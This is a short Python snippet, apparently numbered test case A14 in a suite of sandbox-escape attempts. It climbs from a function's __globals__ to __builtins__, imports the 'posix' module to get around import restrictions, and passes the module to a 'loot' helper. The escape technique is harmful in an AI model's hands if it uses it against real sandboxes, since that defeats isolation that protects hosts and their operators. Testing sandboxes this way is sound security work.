# A14: handle.__globals__['__builtins__']['__import__']('posix').
def handle(request):
    b = handle.__globals__['__builtins__']  # GATE
    if not isinstance(b, dict):
        b = b.__dict__
    posix = b['__import__']('posix')
    out = ['import gave ' + repr(posix)]
    return loot(posix.__dict__, out)
